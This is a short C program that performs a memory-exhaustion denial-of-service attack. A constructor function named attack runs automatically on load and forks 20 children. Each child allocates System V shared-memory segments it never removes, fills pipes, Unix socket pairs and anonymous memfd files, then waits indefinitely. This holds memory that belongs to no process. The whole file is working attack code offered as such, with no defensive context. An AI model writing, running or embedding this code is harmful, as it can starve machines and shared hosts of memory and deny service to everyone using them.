/* Takes memory that is in no process: files without a name, System V segments,
 * pipes and sockets that are full. Each child holds what it can. */

#define _GNU_SOURCE

#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <unistd.h>

enum { STEP = 1 << 20, CHILDREN = 20, SEGMENT = 64 << 20 };

static void
fill(int fd)
{
    static char block[STEP];

    (void)fcntl(fd, F_SETFL, O_NONBLOCK);
    while (write(fd, block, sizeof block) > 0)
        continue;
}

static void
hold(void)
{
    for (int turn = 0; turn < 200; turn++) {
        int pair[2];
        int id = shmget(IPC_PRIVATE, SEGMENT, IPC_CREAT | 0600);
        void *segment = id < 0 ? (void *)-1 : shmat(id, NULL, 0);

        if (segment != (void *)-1) {
            memset(segment, 'x', SEGMENT);
            (void)shmdt(segment);
        }
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0)
            fill(pair[0]);
        if (pipe(pair) == 0)
            fill(pair[1]);
        fill(memfd_create("hoard", 0));
    }
    (void)pause();
}

__attribute__((constructor)) static void
attack(void)
{
    for (int i = 0; i < CHILDREN; i++)
        if (fork() == 0)
            hold();
}
